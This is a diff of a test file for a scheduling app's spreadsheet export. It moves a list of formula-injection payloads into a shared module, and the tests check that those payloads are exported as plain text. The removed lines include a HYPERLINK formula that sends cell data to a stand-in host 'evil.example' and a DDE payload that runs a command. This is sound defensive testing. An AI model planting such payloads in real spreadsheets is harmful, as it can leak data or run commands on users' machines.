@@ -17,19 +17,9 @@ from scheduling import spreadsheet_safety
 from scheduling.models import BlockAssignment, CalendarDay
 from tests.scheduling import export_data
 from tests.scheduling.factories import BlockAssignmentFactory
+from tests.scheduling.formula_payloads import FORMULA_STARTS, IDS, PAYLOADS, as_stored_in_xlsx
 
 pytestmark = pytest.mark.django_db
-
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-]
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 class Planted:
@@ -58,15 +48,10 @@ class Planted:
         self.abbreviation = payload[:8]
 
 
-@pytest.fixture(params=PAYLOADS, ids=["hyperlink", "dde", "plus", "minus", "at", "tab", "cr"])
+@pytest.fixture(params=PAYLOADS, ids=IDS)
 def planted(request, program, resident_user, client) -> Planted:
     client.force_login(resident_user)
     return Planted(program, resident_user, request.param)
-
-
-def _stored(text: str) -> str:
-    """`text` as an .xlsx gives it back: XML parsing turns a raw carriage return into a line feed."""
-    return text.replace("\r", "\n")
 
 
 def _workbook(response):
@@ -92,7 +77,7 @@ def _assert_no_formula(book) -> None:
 
 
 def _assert_text(cells: dict[str, list], value: str, at_least: int = 1) -> None:
-    found = cells.get(_stored(value), [])
+    found = cells.get(as_stored_in_xlsx(value), [])
     assert len(found) >= at_least, f"{value!r} not found {at_least} times"
     assert {cell.data_type for cell in found} == {"s"}
 
@@ -107,7 +92,7 @@ def test_grid_xlsx_writes_planted_text_as_text(client, planted):
     _assert_text(cells, f"{planted.abbreviation} / FMC")
     _assert_text(cells, planted.payload)  # the rotation's name in the legend
     blocks = book["Blocks"]
-    pgy = next(row[1] for row in blocks.iter_rows(min_row=2) if row[0].value == _stored(planted.ann))
+    pgy = next(row[1] for row in blocks.iter_rows(min_row=2) if row[0].value == as_stored_in_xlsx(planted.ann))
     assert (pgy.value, pgy.data_type) == (1, "n")
 
 
